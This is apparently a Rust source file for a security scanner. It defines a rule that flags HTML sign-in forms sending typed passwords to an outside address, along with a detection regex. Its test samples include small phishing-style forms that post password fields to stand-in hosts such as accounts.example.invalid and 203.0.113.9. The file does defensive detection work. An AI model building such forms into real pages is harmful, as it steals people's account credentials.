//! A page asks for a password and sends it to somebody else.

use std::sync::LazyLock;

use regex::Regex;

use crate::scan::pattern::pattern;

use crate::finding::{Confidence, Severity};
use crate::scan::rule::{Check, Reporter, Rule, Sample, TextFile};
use crate::scan::url;
use crate::text::Span;

/// The rule.
pub static RULE: Rule = Rule {
    id: "link-password-form",
    title: "A page asks for a password and sends it to a fixed address",
    severity: Severity::Error,
    confidence: Confidence::Medium,
    why: "A page that looks like a known sign-in and sends what is typed elsewhere steals the account.",
    fix: "Send people to the sign-in page of the service itself.",
    references: &["CWE-451", "CWE-522", "AML.T0011"],
    hits: &[
        Sample::File(
            "login.html",
            "<form action=\"https://accounts.example.invalid/save\" method=post>\n<input type=\"password\" name=p></form>\n",
        ),
        Sample::File(
            "assets/a.html",
            "<form method='post' action='http://203.0.113.9/in'><input name=u><input type='password'></form>\n",
        ),
    ],
    misses: &[
        Sample::File(
            "login.html",
            "<form action=\"/session\" method=\"post\"><input type=\"password\" name=\"p\"></form>\n",
        ),
        Sample::File(
            "login.html",
            "<form action=\"http://localhost:3000/login\"><input type=\"password\"></form>\n",
        ),
        Sample::File(
            "search.html",
            "<form action=\"https://search.example.invalid/\"><input type=\"text\"></form>\n",
        ),
    ],
    check: Check::Text {
        anchors: &["<form"],
        check,
    },
};

static ACTION: LazyLock<Regex> =
    LazyLock::new(|| pattern(r#"(?i)<form\s[^<>]{0,300}?action\s*=\s*["']?(https?://[^\s"'<>]+)"#));

static FIELD: LazyLock<Regex> = LazyLock::new(|| pattern(r#"(?i)type\s*=\s*["']?password"#));

/// How far behind the opening tag of a form its fields may stand.
const REACH: usize = 4000;

fn check(file: &TextFile<'_>, reporter: &mut Reporter<'_>) {
    let found = ACTION.captures_iter(file.text).filter_map(|form| {
        let target = form.get(1)?;
        let host = super::host(target.as_str());
        if url::is_local(&host) || host == "example.com" {
            return None;
        }
        let to = file
            .text
            .floor_char_boundary((target.end() + REACH).min(file.text.len()));
        let rest = &file.text[target.end()..to];
        let inside = rest.split("</form").next().unwrap_or(rest);
        FIELD
            .is_match(inside)
            .then(|| Span::new(target.start(), target.end()))
    });
    for span in file.once_per_line(found) {
        reporter.raise(span);
    }
}
